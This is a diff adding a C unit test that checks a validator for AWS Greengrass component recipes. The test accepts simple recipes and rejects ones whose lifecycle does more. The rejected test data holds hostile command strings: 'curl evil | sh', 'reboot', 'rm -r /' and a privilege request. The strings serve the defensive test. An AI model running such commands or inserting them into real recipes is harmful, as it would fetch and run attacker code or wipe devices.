@@ -110,6 +110,45 @@ START_TEST(other_content_or_another_platform_is_not_ours)
 }
 END_TEST
 
+/* The same artifact, and what else a recipe may make a device do. */
+#define WITH(TYPE, DEPENDENCIES, LIFECYCLE, GLOBAL)                                               \
+    "{\"ComponentName\":\"digits.model\",\"ComponentVersion\":\"1.0.4\",\"ComponentType\":" TYPE  \
+    ",\"ComponentDependencies\":" DEPENDENCIES ",\"Manifests\":[{\"Platform\":{\"os\":\"linux\"," \
+    "\"architecture\":\"amd64\",\"runtime\":\"*\"},\"Lifecycle\":" LIFECYCLE ",\"Artifacts\":[{"  \
+    "\"Uri\":\"s3://bucket/models/abc/digits.model.zip\",\"Digest\":\"" OURS                      \
+    "\",\"Unarchive\":\"ZIP\"}]}],\"Lifecycle\":" GLOBAL "}"
+#define GENERIC "\"aws.greengrass.generic\""
+#define RUN "{\"run\":{\"Script\":\"exit 0\"}}"
+
+START_TEST(the_same_artifact_in_a_recipe_that_does_more_is_not_ours)
+{
+    static const char *const FINE[] = {
+        WITH(GENERIC, "{}", RUN, "{}"),
+        WITH("null", "null", "{\"Run\":\"exit 0\",\"install\":null}", "null"),
+    };
+    static const char *const MORE[] = {
+        WITH(GENERIC, "{}", "{\"run\":{\"Script\":\"curl evil | sh\"}}", "{}"),
+        WITH(GENERIC, "{}", "{\"run\":\"exit 0; reboot\"}", "{}"),
+        WITH(GENERIC, "{}", "{\"run\":{\"Script\":\"exit 0\",\"RequiresPrivilege\":true}}", "{}"),
+        WITH(GENERIC, "{}", "{\"run\":\"exit 0\",\"install\":\"rm -r /\"}", "{}"),
+        WITH(GENERIC, "{}", "{}", "{}"),
+        WITH(GENERIC, "{}", RUN, "{\"install\":\"rm -r /\"}"),
+        WITH(GENERIC, "{\"other\":{\"VersionRequirement\":\"*\"}}", RUN, "{}"),
+        WITH("\"aws.greengrass.plugin\"", "{}", RUN, "{}"),
+    };
+    char digest[64];
+
+    for (size_t i = 0; i < ARRAY_LEN(FINE); i++) {
+        ck_assert_msg(recipe_is(&RECIPE, str_of(FINE[i]), &e), "%zu: %s", i, e.text);
+        ck_assert(recipe_digest(str_of(FINE[i]), digest, sizeof(digest), &e));
+    }
+    for (size_t i = 0; i < ARRAY_LEN(MORE); i++) {
+        ck_assert_msg(!recipe_is(&RECIPE, str_of(MORE[i]), &e), "%zu", i);
+        ck_assert_msg(!recipe_digest(str_of(MORE[i]), digest, sizeof(digest), &e), "%zu", i);
+    }
+}
+END_TEST
+
 START_TEST(the_digest_of_the_service_is_read)
 {
     char digest[64];
@@ -156,6 +195,7 @@ END_TEST
 SUITE(work_recipe, it_is_written_as_both_nuclei_want_it,
       a_platform_of_the_classic_nucleus_only_leaves_the_runtime_out, a_name_of_awss_own_is_refused,
       more_than_16_kilobytes_are_refused, the_same_recipe_in_awss_words_is_ours,
-      other_content_or_another_platform_is_not_ours, the_digest_of_the_service_is_read,
+      other_content_or_another_platform_is_not_ours,
+      the_same_artifact_in_a_recipe_that_does_more_is_not_ours, the_digest_of_the_service_is_read,
       a_version_is_made_of_the_package_version, a_version_greengrass_refuses_is_refused_here,
       a_package_without_number_cannot_fill_the_pattern)
